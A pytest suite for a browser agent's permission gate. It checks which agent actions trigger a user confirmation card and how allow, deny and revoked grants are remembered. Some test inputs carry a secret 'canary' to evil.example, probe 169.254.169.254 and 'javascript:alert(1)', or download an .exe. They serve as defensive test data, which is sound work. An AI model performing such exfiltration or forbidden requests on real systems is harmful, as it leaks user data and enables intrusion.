"""The gate: who is asked what, and what an answer is worth."""

import asyncio
from dataclasses import replace
from typing import Any

import pytest
from pydantic import ValidationError

from tests.support.approve import allow
from tests.support.gate import CLICK, SENDING, TYPE, WORK, Person, code, shop, tool
from tests.support.toolbox import FRAME, TAB, context
from webbrain.agent.attachments import AtHand, Attached
from webbrain.core.events import CardField
from webbrain.core.results import ToolResult
from webbrain.core.types import Capability, Mode
from webbrain.host.reach import Download, Frame
from webbrain.policy import grants
from webbrain.policy.egress import LOCAL_NETWORK_SETTING
from webbrain.policy.gate import Gate
from webbrain.policy.grants import PERMISSIONS, SWITCH, Leave, Need
from webbrain.services.settings import FIELDS
from webbrain.tools.base import ToolContext
from webbrain.tools.state import Dialog

# --- the ordinary grant ---


async def test_one_card_lets_the_task_click_type_and_open_pages_of_a_host() -> None:
    ada = Person()
    for name, args in (
        ("click_ax", CLICK),
        ("set_field", TYPE),
        ("press_keys", {"key": "Enter"}),
        ("navigate", {"url": "/other"}),
        ("go_back", {}),
        ("type_text", {"text": "x"}),
    ):
        assert await ada.call(name, **args) is None
    assert ada.asked() == [("work", "shop.example")]
    card = ada.cards[0]
    assert "shop.example" in card.question
    assert ("Action", "Click “View my portfolio”") in [(d.label, d.value) for d in card.details]
    assert [option.id for option in card.options] == ["once", "always", "deny", "never"]


@pytest.mark.parametrize(
    "name", ["get_accessibility_tree", "scroll", "hover", "select_text", "done", "close_tab"]
)
async def test_reading_and_the_agent_s_own_business_ask_nothing(name: str) -> None:
    ada = Person()
    assert await ada.call(name, ref_id="ref_1", tab_id=9, direction="down") is None
    assert ada.cards == []


async def test_for_what_needs_nothing_nothing_is_looked_up() -> None:
    ada = Person()
    looked: list[str] = []
    ada.host.hook = looked.append
    assert await ada.call("get_accessibility_tree") is None
    assert looked == []
    await ada.call("click_ax", **CLICK)
    assert looked, "what needs leave is looked into"


@pytest.mark.parametrize("key", ["Tab", "Escape"])
async def test_keys_that_do_nothing_lasting_are_free(key: str) -> None:
    ada = Person()
    assert await ada.call("press_keys", key=key) is None
    assert ada.cards == []


async def test_the_card_of_a_dialog_says_what_the_dialog_says() -> None:
    ada = Person()
    ada.ctx.state.dialogs[TAB] = Dialog(TAB, "prompt", "Delete everything?\nThere is no way back.", "no")
    assert await ada.call("answer_dialog", accept=True, text="yes") is None
    lines = {line.label: line.value for line in ada.cards[0].details}
    assert lines["Dialog"] == "Delete everything?\nThere is no way back."
    assert lines["Enter"] == "yes"
    ada = Person()
    ada.ctx.state.dialogs[TAB] = Dialog(TAB, "confirm", "Delete everything?")
    assert await ada.call("answer_dialog", accept=False) is None
    assert ada.cards == []


async def test_the_answer_is_for_the_dialog_that_was_shown() -> None:
    ada = Person()
    dialogs = ada.ctx.state.dialogs
    dialogs[TAB] = Dialog(TAB, "confirm", "Continue?")
    ada.thinking = lambda: dialogs.update({TAB: Dialog(TAB, "confirm", "Delete everything?")})
    assert code(await ada.call("answer_dialog", accept=True)) == "changed_since_asked"


async def test_no_is_remembered_for_the_task_and_for_all_that_the_card_spoke_of() -> None:
    ada = Person("deny")
    assert code(await ada.call("click_ax", **CLICK)) == "denied"
    assert code(await ada.call("set_field", **TYPE)) == "denied"
    assert code(await ada.call("navigate", url="/other")) == "denied"
    assert len(ada.cards) == 1


@pytest.mark.parametrize("answer", ["", "yes", "ONCE", "allow", "timeout", "cancelled", "once "])
async def test_whatever_is_no_option_is_no(answer: str) -> None:
    ada = Person(answer)
    assert code(await ada.call("click_ax", **CLICK)) == "denied"


async def test_an_answer_nobody_waits_for_does_nothing() -> None:
    ada = Person()
    assert await ada.gate.answered("always") is None
    assert await grants.stored(ada.host) == []


async def test_always_is_stored_and_counts_in_other_tabs_and_tasks() -> None:
    ada = Person("always")
    assert await ada.call("click_ax", **CLICK) is None
    assert {
        (grant["capability"], grant["host"], grant["action"])
        for grant in ada.host.settings.values[PERMISSIONS]
    } == {(capability.value, "shop.example", "allow") for capability in WORK}
    later = Person(host=ada.host)
    assert await later.call("set_field", **TYPE) is None
    assert later.cards == []


async def test_never_is_stored_too_and_a_denial_wins() -> None:
    ada = Person("never")
    assert code(await ada.call("click_ax", **CLICK)) == "denied"
    allow(ada.host, "shop.example")
    later = Person(host=ada.host)
    assert code(await later.call("click_ax", **CLICK)) == "denied"
    assert later.cards == []


async def test_what_is_revoked_while_a_task_runs_counts_at_once() -> None:
    ada = Person(host=shop())
    allow(ada.host, "shop.example")
    assert await ada.call("click_ax", **CLICK) is None
    assert await grants.forget(ada.host, None, "shop.example") == 3
    assert await ada.call("click_ax", **CLICK) is None
    assert len(ada.cards) == 1


def granted(capability: str = "click", host: str = "shop.example", action: str = "allow") -> dict[str, str]:
    return {"capability": capability, "host": host, "action": action}


@pytest.mark.parametrize(
    "stored",
    [
        None,
        "x",
        {},
        [1],
        [{"host": "shop.example"}],
        [granted(host="")],
        [granted("everything")],
        [granted(action="yes")],
        [granted(host="*")],
    ],
)
async def test_damaged_or_wild_grants_grant_nothing(stored: Any) -> None:
    ada = Person(host=shop())
    ada.host.settings.values[PERMISSIONS] = stored
    await ada.call("click_ax", **CLICK)
    assert len(ada.cards) == 1


async def test_two_tasks_that_store_at_once_lose_nothing() -> None:
    host = shop()
    await asyncio.gather(
        *(grants.remember(host, [Need(Capability.CLICK, f"h{n}.example")], allow=True) for n in range(10))
    )
    assert len(await grants.stored(host)) == 10


async def test_www_is_the_same_host_and_another_port_is_not() -> None:
    allow(host := shop(url="https://www.shop.example/"), "shop.example")
    ada = Person(host=host)
    assert await ada.call("click_ax", **CLICK) is None
    assert ada.cards == []
    allow(other := shop(url="https://shop.example:8443/"), "shop.example")
    ada = Person(host=other)
    await ada.call("click_ax", **CLICK)
    assert ada.asked() == [("work", "shop.example:8443")]


@pytest.mark.parametrize("url", ["about:blank", "file:///home/ada/x.html", "data:text/html,x", ""])
async def test_an_unknown_origin_is_refused(url: str) -> None:
    ada = Person(host=shop(url=url))
    assert code(await ada.call("set_field", **TYPE)) == "no_host"
    assert ada.cards == []


# --- opening pages ---


async def test_what_the_user_typed_is_opened_without_a_question() -> None:
    ada = Person()
    ada.said = "Compare tea on https://news.example/tea and at prices.example, please."
    assert await ada.call("navigate", url="https://news.example/tea") is None
    assert await ada.call("navigate", url="https://www.prices.example/") is None
    assert ada.cards == []
    assert await ada.call("navigate", url="https://evil.example/") is None
    assert ada.asked() == [("open", "evil.example")]
    assert ada.cards[0].details[0].value == "https://evil.example/"
    assert await ada.call("navigate", url="https://evil.example/more") is None
    assert len(ada.cards) == 1


async def test_a_host_in_an_e_mail_address_was_not_asked_for() -> None:
    ada = Person()
    ada.said = "Write to ada@bank.example"
    await ada.call("navigate", url="https://bank.example/")
    assert ada.asked() == [("open", "bank.example")]


async def test_a_step_back_is_charged_to_the_page() -> None:
    ada = Person()
    assert await ada.call("go_back") is None
    assert ada.asked() == [("work", "shop.example")]


# --- frames ---


async def test_what_happens_in_a_frame_is_charged_to_the_frame() -> None:
    allow(host := shop(), "shop.example")
    ada = Person(host=host)
    assert await ada.call("iframe_type", urlFilter="pay.example", selector="input", text="4") is None
    assert ada.asked() == [("work", "pay.example")]
    assert ada.gate is not None


async def test_the_frame_that_was_asked_about_is_the_one_that_is_used() -> None:
    ada = Person()
    spec, args = tool("iframe_type"), {"urlFilter": "pay.example", "selector": "input", "text": "4"}
    assert await ada.gate.needs_card(ada.ctx, spec, args)
    await ada.gate.answered("once")
    assert await ada.gate.needs_card(ada.ctx, spec, args) is None
    assert ada.gate.context(ada.ctx).frame_id == FRAME


async def test_a_frame_counts_for_its_own_call_only() -> None:
    ada = Person()
    await ada.call("iframe_click", urlFilter="pay.example", selector="button")
    await ada.call("iframe_read", urlFilter="forms.example")
    assert ada.gate.context(ada.ctx).frame_id is None


@pytest.mark.parametrize(
    ("url", "asked"),
    [
        ("about:srcdoc", "shop.example"),
        ("about:blank", "shop.example"),
        ("blob:https://cdn.example/1-2", "cdn.example"),
        ("data:text/html,x", None),
        ("", "shop.example"),
    ],
)
async def test_frames_without_an_address(url: str, asked: str | None) -> None:
    host = shop()
    host.browser.set_frames(TAB, Frame(FRAME, 0, url))
    ada = Person(host=host)
    ctx = replace(ada.ctx, frame_id=FRAME)
    ada.ctx = ctx
    result = await ada.call("type_ax", **TYPE)
    assert ada.asked() == ([("work", asked)] if asked else [])
    assert code(result) == ("" if asked else "no_host")


# --- what reaches beyond the page ---


async def test_fetching_asks_once_per_host_and_task() -> None:
    ada = Person()
    assert await ada.call("fetch_url", url="https://news.example/a") is None
    assert await ada.call("fetch_url", url="https://news.example/b") is None
    assert await ada.call("research_url", url="https://img.news.example/") is None
    assert ada.asked() == [("read", "news.example"), ("read", "img.news.example")]


async def test_downloads_are_asked_about_each_time_with_their_addresses() -> None:
    ada = Person()
    first = ["https://a.example/1.pdf", "https://a.example/2.pdf", "https://b.example/3.pdf"]
    assert await ada.call("download_files", urls=first) is None
    assert await ada.call("download_files", url="https://a.example/evil.exe") is None
    assert ada.asked() == [("download", "a.example"), ("download", "b.example"), ("download", "a.example")]
    assert [line.value for line in ada.cards[0].details] == first[:2]


def showing(*urls: str) -> Person:
    """A page that names these addresses as its pictures'."""
    ada = Person()
    items = [{"url": url, "kind": "image"} for url in urls]
    ada.host.page.on("media", {"items": items, "total": len(items)})
    first = urls[0] if urls else ""
    inside = {"kind": "data", "data": "", "mime": "image/png", "nextOffset": None}
    found = {"kind": "url", "url": first} if first.startswith("http") else inside
    ada.host.page.on("resource", found if urls else {"success": False, "code": "not_found", "error": "No."})
    return ada


async def saves(ada: Person, name: str, **args: Any) -> tuple[ToolResult | None, ToolResult]:
    """Ask, and run the tool with what the gate made of its context."""
    spec = tool(name)
    while card := await ada.gate.needs_card(ada.ctx, spec, args):
        ada.cards.append(card)
        if ada.thinking:
            ada.thinking()
        if refusal := await ada.gate.answered(ada.answers[0]):
            return refusal, refusal
    return None, await spec.run(ada.gate.context(ada.ctx), spec.args.model_validate(args))


async def test_what_a_page_shows_is_asked_about_with_every_host_and_address() -> None:
    urls = ["https://cdn.example/1.jpg", "https://evil.example/tool.exe", "https://cdn.example/2.jpg"]
    ada = showing(*urls, "blob:https://shop.example/1")
    assert await ada.call("download_social_media", mode="all", limit=5) is None
    assert ada.asked() == [
        ("download", "cdn.example"),
        ("download", "evil.example"),
        ("download", "shop.example"),
    ]
    shown = [[line.value for line in card.details] for card in ada.cards]
    assert shown[:2] == [[urls[0], urls[2]], [urls[1]]]
    ada = showing(urls[1])
    assert await ada.call("download_resource_from_page", selector="img") is None
    assert ada.asked() == [("download", "evil.example")]
    assert [line.value for line in ada.cards[0].details] == [urls[1]]


@pytest.mark.parametrize("name", ["download_social_media", "download_resource_from_page"])
async def test_what_a_page_names_after_the_answer_is_not_saved(name: str) -> None:
    args = {"selector": "img"} if name == "download_resource_from_page" else {}
    for before, after in (
        ("https://cdn.example/1.jpg", "https://evil.example/tool.exe"),
        ("https://cdn.example/1.jpg", "https://cdn.example/2.jpg"),
        ("blob:https://shop.example/1", "https://shop.example/2.jpg"),
        ("https://shop.example/2.jpg", "blob:https://shop.example/1"),
    ):
        ada = showing(before)
        other = showing(after)
        ada.thinking = lambda ada=ada, other=other: ada.host.page.__dict__.update(other.host.page.__dict__)
        _, result = await saves(ada, name, **args)
        assert len(ada.cards) == 1
        assert not result.success
        assert "changed_since_asked" in str(result.data)
        assert ada.host.downloads.started == []


@pytest.mark.parametrize("name", ["download_social_media", "download_resource_from_page"])
async def test_what_the_card_named_is_saved_wherever_it_lies(name: str) -> None:
    ada = showing("https://cdn.example/1.jpg")
    args = {"selector": "img"} if name == "download_resource_from_page" else {}
    await saves(ada, name, **args)
    assert [url for url, _ in ada.host.downloads.started] == ["https://cdn.example/1.jpg"]


async def test_where_nothing_is_shown_nobody_is_asked() -> None:
    for name, args in (("download_social_media", {}), ("download_resource_from_page", {"selector": "img"})):
        ada = showing()
        _, result = await saves(ada, name, **args)
        assert (ada.cards, result.success) == ([], False)


async def test_downloads_of_a_host_can_be_allowed_for_good() -> None:
    ada = Person("always")
    assert await ada.call("download_files", url="https://a.example/1.pdf") is None
    assert await ada.call("download_files", url="https://a.example/2.pdf") is None
    assert ada.asked() == [("download", "a.example")]


async def test_an_upload_is_charged_to_the_page_or_frame() -> None:
    ada = Person()
    assert await ada.call("upload_file", downloadId=1, selector="input") is None
    assert ada.asked() == [("upload", "shop.example")]
    lines = {line.label: line.value for line in ada.cards[0].details}
    assert lines["File"] == "price-list.txt"
    assert lines["Address"] == "https://shop.example/price-list.txt"


async def test_every_file_of_an_upload_is_named_and_must_be_there() -> None:
    ada = Person()
    for number in (5, 6):
        url = f"https://files.example/{number}"
        ada.host.downloads.add(Download(number, url, url, f"/home/ada/cv-{number}.pdf", "complete"))
    assert await ada.call("upload_file", downloadIds=[5, 6, 5]) is None
    assert ada.asked() == [("upload", "shop.example")]
    lines = [(line.label, line.value) for line in ada.cards[0].details if line.label != "Action"]
    assert lines == [
        ("File", "cv-5.pdf"),
        ("Address", "https://files.example/5"),
        ("File", "cv-6.pdf"),
        ("Address", "https://files.example/6"),
    ]
    assert code(await ada.call("upload_file", downloadIds=[5, 99])) == "no_download"
    assert len(ada.cards) == 1, "what is not there is not asked about"


async def test_an_attached_file_is_named_and_must_be_there() -> None:
    ada = Person()
    files = AtHand()
    files.add([Attached("cv.pdf", "application/pdf", 3, "document", body=b"pdf")])
    ada.ctx = replace(ada.ctx, attached=files)
    assert await ada.call("upload_file", attachments=["cv.pdf"], selector="input") is None
    assert ada.asked() == [("upload", "shop.example")]
    assert [line.value for line in ada.cards[0].details if line.label == "File"] == ["cv.pdf"]
    assert code(await ada.call("upload_file", attachments=["passport.pdf"])) == "no_attachment"
    assert len(ada.cards) == 1


async def test_the_window_needs_no_host_and_is_not_for_good() -> None:
    ada = Person(host=shop(url="about:blank"))
    assert await ada.call("resize_window", width=800, height=600) is None
    assert await ada.call("resize_window", width=900, height=600) is None
    assert ada.asked() == [("window", "")]
    assert [option.id for option in ada.cards[0].options] == ["once", "deny"]


async def test_a_downloaded_file_is_fetched_from_its_server_only_with_leave() -> None:
    ada = Person()
    assert await ada.call("read_downloaded_file", downloadId=1) is None
    assert ada.asked() == [("read", "shop.example")]
    assert ada.cards[0].details[0].value == "https://shop.example/price-list.txt"
    host = shop()
    await grants.remember(host, [Need(Capability.NETWORK, "shop.example")], allow=False)
    ada = Person(host=host)
    assert code(await ada.call("read_downloaded_file", downloadId=1)) == "denied"
    assert ada.cards == []


async def test_a_file_that_no_server_has_is_read_without_a_question() -> None:
    ada = Person()
    ada.host.downloads.add(
        Download(9, "data:text/plain,x", "data:text/plain,x", "/a/x.txt", "complete", 1, 1)
    )
    assert await ada.call("read_downloaded_file", downloadId=9) is None
    assert code(await ada.call("read_downloaded_file", downloadId=77)) == "no_download"
    assert ada.cards == []


async def test_what_the_tab_shows_is_read_without_a_question() -> None:
    ada = Person()
    assert await ada.call("read_pdf") is None
    assert ada.cards == []


@pytest.mark.parametrize(
    "args",
    [
        {"url": "http://169.254.169.254/"},
        {"urls": ["https://shop.example/a", "http://printer/"]},
        {"url": "javascript:alert(1)"},
    ],
)
async def test_a_forbidden_address_gets_no_card(args: dict[str, Any]) -> None:
    ada = Person()
    name = "download_files" if "urls" in args else "fetch_url"
    assert code(await ada.call(name, **args)) in ("forbidden_address", "bad_url")
    assert ada.cards == []


async def test_local_addresses_are_asked_about_once_they_are_allowed() -> None:
    ada = Person()
    ada.host.settings.values[LOCAL_NETWORK_SETTING] = True
    assert await ada.call("fetch_url", url="http://127.0.0.1:8000/") is None
    assert ada.asked() == [("read", "127.0.0.1:8000")]


# --- requests that change data ---


@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH", "DELETE"])
async def test_without_allow_api_there_is_not_even_a_question(method: str) -> None:
    ada = Person()
    result = await ada.call("fetch_url", url="https://api.example/", method=method, body="{}")
    assert code(result) == "requires_api_allow"
    assert result is not None
    assert result.data["requiresApiAllow"] is True
    assert ada.cards == []


@pytest.mark.parametrize("url", ["", " ", "\t", "\u00a0"])
@pytest.mark.parametrize("name", ["fetch_url", "research_url", "read_pdf", "download_files"])
async def test_a_blank_address_passes_for_none(name: str, url: str) -> None:
    """It would mean the page itself, which is not what a call without an address is let through for."""
    ada = Person()
    ada.leave.allow_api = True
    more = {"method": "POST", "body": "{}"} if name == "fetch_url" else {}
    assert code(await ada.call(name, url=url, **more)) == "bad_url"
    assert ada.cards == []
    with pytest.raises(ValidationError):
        tool(name).args.model_validate({"url": url, **more})


async def test_a_request_that_changes_data_and_names_no_address_is_refused() -> None:
    ada = Person()
    ada.leave.allow_api = True
    assert code(await ada.call("fetch_url", method="DELETE")) == "no_host"


@pytest.mark.parametrize("asks", [True, False])
@pytest.mark.parametrize("probe", [SENDING, {**SENDING, "submits": False}])
@pytest.mark.parametrize("name", ["click", "click_ax"])
async def test_what_is_sent_once_is_not_pressed_twice_in_one_call(
    name: str, probe: dict[str, Any], *, asks: bool
) -> None:
    host = shop(probe)
    host.settings.values[SWITCH] = asks
    ada = Person(host=host)
    args = CLICK if name == "click_ax" else {"text": "Place order"}
    assert code(await ada.call(name, **args, count=2)) == "press_once"
    assert ada.cards == []
    assert await ada.call(name, **args, count=1) is None


async def test_what_sends_nothing_may_be_pressed_twice() -> None:
    ada = Person()
    assert await ada.call("click_ax", **CLICK, count=2) is None


async def test_with_allow_api_every_request_is_shown_with_its_body() -> None:
    ada = Person()
    ada.leave.allow_api = True
    for body in ('{"a": 1}', '{"a": 2}'):
        assert await ada.call("fetch_url", url="https://api.example/x", method="POST", body=body) is None
    assert [card.ask for card in ada.cards] == ["api", "api"]
    lines = {line.label: line.value for line in ada.cards[1].details}
    assert lines == {"Request": "POST https://api.example/x", "Body": '{"a": 2}'}
    assert [option.id for option in ada.cards[0].options] == ["once", "deny"]


async def test_leave_to_write_reaches_the_tool_only_with_the_call_that_was_shown() -> None:
    ada = Person()
    ada.leave.allow_api = True
    spec, args = tool("fetch_url"), {"url": "https://api.example/", "method": "POST", "body": "{}"}
    await ada.gate.needs_card(ada.ctx, spec, args)
    await ada.gate.answered("once")
    await ada.gate.needs_card(ada.ctx, spec, args)
    assert ada.gate.context(ada.ctx).allow_api
    await ada.call("fetch_url", url="https://api.example/")
    assert not ada.gate.context(ada.ctx).allow_api


async def test_allow_api_leaves_get_to_the_ordinary_question() -> None:
    ada = Person()
    ada.leave.allow_api = True
    await ada.call("fetch_url", url="https://api.example/x")
    assert [card.ask for card in ada.cards] == ["read"]


# --- text of elsewhere ---


async def leaks(_ctx: ToolContext, to: str, texts: Any) -> list[CardField]:
    """Finds what contains the canary, unless it goes back where it came from."""
    found = any("canary" in text for text in texts) and "mail.example" not in to
    return [CardField(label="Text from mail.example", value="canary")] if found else []


@pytest.mark.parametrize(
    ("name", "args"),
    [
        ("navigate", {"url": "https://evil.example/?q=canary"}),
        ("new_tab", {"url": "https://evil.example/?q=canary"}),
        ("fetch_url", {"url": "https://evil.example/canary"}),
        ("research_url", {"url": "https://evil.example/canary"}),
        ("download_files", {"url": "https://evil.example/canary"}),
        ("set_field", {"ref_id": "ref_2", "text": "canary"}),
        ("type_ax", {"ref_id": "ref_2", "text": "canary"}),
        ("type_text", {"text": "canary"}),
        ("iframe_type", {"urlFilter": "pay.example", "selector": "input", "text": "canary"}),
    ],
)
async def test_text_of_another_page_is_shown_before_it_leaves_whatever_was_granted(
    name: str, args: dict[str, Any]
) -> None:
    host = shop()
    allow(host, "evil.example", "shop.example", "pay.example", capabilities=Capability)
    ada = Person(host=host)
    ada.gate = Gate(ada.leave, outgoing=leaks)
    ada.said = "https://evil.example/?q=canary"
    for _ in range(2):
        assert await ada.call(name, **args) is None
    assert [card.ask for card in ada.cards] == ["carry", "carry"]
    assert ada.cards[0].details[0].value == "canary"
    assert [option.id for option in ada.cards[0].options] == ["once", "deny"]
    off = Person(host=host)
    assert await off.call(name, **args) is None
    assert off.cards == [], "it is the outgoing guard that asks"


# --- switches ---


async def test_the_master_switch_removes_questions_but_not_the_address_guard() -> None:
    ada = Person(host=shop(SENDING))
    ada.host.settings.values[SWITCH] = False
    assert await ada.call("click_ax", **CLICK) is None
    assert await ada.call("download_files", url="https://a.example/1") is None
    assert ada.cards == []
    assert code(await ada.call("fetch_url", url="https://a.example/", method="POST")) == "requires_api_allow"


def test_the_switch_is_a_setting() -> None:
    assert SWITCH in FIELDS
    assert FIELDS[SWITCH].default is True


async def test_an_unattended_run_asks_unless_its_owner_waived_that() -> None:
    ada = Person()
    ada.gate = Gate(Leave(asks=False))
    assert await ada.call("click_ax", **CLICK) is None
    assert ada.cards == []


async def test_without_the_gate_nothing_is_asked() -> None:
    ada = Person(host=shop(SENDING))
    ada.gate = Gate(enabled=False)
    assert await ada.call("click_ax", **CLICK) is None
    assert await ada.call("download_files", url="https://a.example/1") is None
    assert ada.cards == []


async def test_ask_mode_is_asked_about_the_network_and_has_nothing_else() -> None:
    ada = Person()
    ada.ctx = context(ada.host, mode=Mode.ASK)
    assert await ada.call("fetch_url", url="https://news.example/") is None
    assert ada.asked() == [("read", "news.example")]
